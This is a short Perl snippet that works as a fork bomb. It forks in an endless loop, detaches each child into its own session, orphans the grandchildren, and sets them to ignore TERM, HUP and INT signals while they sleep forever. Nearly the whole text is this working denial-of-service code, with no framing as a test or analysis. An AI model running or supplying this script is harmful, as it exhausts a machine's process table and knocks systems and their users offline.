# Each process has its own session and group, and is orphaned at once.
while (1) {
    my $pid = fork;
    if (!defined $pid) { select(undef, undef, undef, 0.01); next }
    if (!$pid) { POSIX::setsid(); if (fork) { exit } else { $SIG{$_} = 'IGNORE' for qw(TERM HUP INT); sleep 60 while 1 } }
    waitpid($pid, 0);
}
